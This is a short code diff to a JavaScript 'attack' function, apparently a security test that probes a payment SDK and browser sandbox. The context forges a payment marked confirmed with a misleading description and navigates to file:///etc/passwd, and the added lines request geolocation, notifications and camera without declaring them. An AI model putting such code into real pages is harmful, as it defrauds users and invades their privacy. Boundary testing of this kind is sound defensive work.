@@ -51,6 +51,10 @@ async function attack(target) {
     const forged = settle(azc.requestPayment({asset: "USDT", amount: "5", description: "nothing to see", confirmed: true}), 60000);
     document.title = "waiting:" + JSON.stringify(results);
     log("payment", await forged);
+    // Device permissions it never declared.
+    log("geolocation", await settle(new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, (e) => no({code: "geo_" + e.code}))), 5000));
+    log("notifications", await settle(Notification.requestPermission(), 5000));
+    log("camera", await settle(navigator.mediaDevices.getUserMedia({video: true}), 5000));
     // 7. Leaving: navigation to a file, last (the page stays where it is).
     location.href = "file:///etc/passwd";
     await sleep(1500);
